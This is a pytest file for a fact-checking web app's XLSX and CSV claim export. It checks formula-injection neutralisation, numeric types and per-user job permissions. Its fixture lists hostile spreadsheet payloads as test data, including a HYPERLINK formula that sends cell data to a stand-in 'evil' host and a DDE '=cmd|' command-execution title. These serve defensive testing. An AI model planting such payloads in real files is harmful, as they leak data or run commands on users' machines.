"""XLSX export as a background job (T32): string cells only, no formula anywhere, numbers stay
numbers; progress and the download for the person who asked."""
import io
import re
import zipfile

import openpyxl
import pytest
from sqlalchemy import select

from tests.double_review_data import double, mark, team
from tests.exports.helpers import download_xlsx, signed_in, start_xlsx
from tests.factories import add_member, make_article, make_claim, make_project, make_user
from webapp.exports.rows import COLUMNS
from webapp.extensions import db
from webapp.models import Job

# NUL is refused when a claim is saved (it cannot be stored), so it never reaches an export;
# ``csv_export.neutralise`` still covers it (test_csv_jsonl.py).
TRIGGERS = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", "a,=1+1", '"=1+1"',
            '=HYPERLINK("http://evil/?"&A1)', "http://example.org/x", "0042", "1e5"]
DANGEROUS = tuple("=+-@\t\r\n")


@pytest.fixture
def hostile(app):
    """One claim per trigger, each value in the quote, the statement and the figures."""
    with app.app_context():
        lead = make_user("lena")
        project = make_project(lead)
        text = " | ".join(TRIGGERS) + " | end"
        from webapp.services import articles
        article = articles.import_text(project.id, lead, text, articles.Provenance(title="=cmd|'/C calc'!A0"))
        db.session.commit()
        at = 0
        for value in TRIGGERS:
            start = text.index(value, at)
            at = start + len(value)
            from webapp.services import claims
            claims.create_claim(article, lead, start, at, value,
                                {"statement": value, "figures": value, "status": "unreviewed"})
        db.session.commit()
        return project.id


def test_xlsx_cells_are_strings_and_no_formula_exists(app, browser, hostile):
    browser = signed_in(browser)
    response = download_xlsx(browser, start_xlsx(browser, hostile))
    assert response.headers["Content-Type"] == \
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.headers["Cache-Control"] == "no-store"
    data = response.data
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if re.match(r"xl/worksheets/sheet\d+\.xml", n)]
        assert sheets
        for name in sheets:
            xml = archive.read(name).decode()
            assert "<f>" not in xml and "<f " not in xml
            assert "<hyperlink" not in xml
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    header = [c.value for c in sheet[1]]
    assert header == COLUMNS
    rows = [dict(zip(header, (c for c in row))) for row in sheet.iter_rows(min_row=2)]
    assert len(rows) == len(TRIGGERS)
    quotes = set()
    for row in rows:
        for column in ("quote", "statement", "figures", "article_title"):
            assert row[column].data_type == "s", (column, row[column].value)
        # CR is written as the OOXML escape _x000D_, which Excel reads back as CR.
        quotes.add(row["quote"].value.replace("_x000D_", "\r"))
        for column in ("claim_id", "article_id", "start", "end", "version"):
            assert row[column].data_type == "n" and isinstance(row[column].value, int)
    assert quotes == set(TRIGGERS)   # verbatim: a string cell is never run, so no prefix


def test_csv_neutralises_every_trigger_and_keeps_numbers(app, browser, hostile):
    import csv
    response = signed_in(browser).get(f"/projects/{hostile}/export/claims.csv")
    text = response.get_data(as_text=True)
    assert text.endswith("\r\n")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(TRIGGERS)
    for row, value in zip(rows, TRIGGERS):
        for column in ("quote", "statement", "figures"):
            assert row[column] == ("'" + value if value.startswith(DANGEROUS) else value), column
        assert row["article_title"] == "'=cmd|'/C calc'!A0"
        assert row["start"].isdigit() and row["end"].isdigit() and row["version"] == "1"


def test_the_xlsx_job_follows_filters_and_the_askers_view(app, browser):
    with app.app_context():
        project, lena, anna, omar, vera = team()
        article = double(project, lena, anna, omar)
        mark(article, anna, "26 ISIS militants have been killed", statement="ANNA-CLAIM")
        mark(article, omar, "The SDF took the village of Hamrat", statement="OMAR-CLAIM",
             status="unverifiable", rationale="No access.")
        project_id = project.id
    anna_browser = signed_in(browser, "anna")
    sheet = openpyxl.load_workbook(io.BytesIO(
        download_xlsx(anna_browser, start_xlsx(anna_browser, project_id)).data)).active
    assert [r[COLUMNS.index("statement")] for r in sheet.iter_rows(min_row=2, values_only=True)] \
        == ["ANNA-CLAIM"]
    lena_browser = signed_in(type(browser)(app.test_client()), "lena")
    job_url = start_xlsx(lena_browser, project_id, status="unverifiable")
    sheet = openpyxl.load_workbook(io.BytesIO(download_xlsx(lena_browser, job_url).data)).active
    assert [r[COLUMNS.index("statement")] for r in sheet.iter_rows(min_row=2, values_only=True)] \
        == ["OMAR-CLAIM"]
    with app.app_context():
        job = db.session.scalars(select(Job).order_by(Job.id.desc())).first()
        assert (job.kind, job.status, job.done, job.total) == ("export", "done", 1, 1)
        assert job.params == {"filters": {"status": "unverifiable"}}
        assert job.report["summary"] == {"Claims exported": 1}
    # Someone else cannot download the file lena asked for.
    response = anna_browser.get(job_url + "/download")
    assert response.status_code == 302
    assert "Only the person who asked" in anna_browser.get(job_url).get_data(as_text=True)


def test_viewers_cannot_start_a_job_but_may_download_csv(app, browser):
    with app.app_context():
        lena, vera = make_user("lena"), make_user("vera")
        project = make_project(lena)
        add_member(project, vera, "viewer")
        project_id = project.id
    browser = signed_in(browser, "vera")
    page = browser.get(f"/projects/{project_id}/export/").get_data(as_text=True)
    assert "Prepare XLSX" not in page and "download the CSV" in page
    response = browser.post(f"/projects/{project_id}/export/xlsx", {},
                            form_url=f"/projects/{project_id}/export/")
    assert response.status_code == 403
    with app.app_context():
        assert db.session.scalars(select(Job)).all() == []


def test_a_job_for_someone_who_left_the_project_exports_nothing(app, browser):
    from webapp.services import projects as project_service
    from webapp.services import jobs
    from webapp.models import Membership
    with app.app_context():
        lena, anna = make_user("lena"), make_user("anna")
        project = make_project(lena)
        add_member(project, anna, "annotator")
        make_claim(make_article(project, lena), lena, "26 ISIS militants")
        job = jobs.create_job(project.id, anna, "export", "XLSX export", params={"filters": {}})
        project_service.remove_member(db.session.scalar(select(Membership).where(
            Membership.user_id == anna.id)))
        db.session.commit()
        from webapp import tasks
        tasks.enqueue(job)   # immediate mode in tests: runs now, with anna's role as it is now
        job = db.session.get(Job, job.id)
        assert job.status == "failed" and "no longer a member" in job.message
        assert job.output_key is None
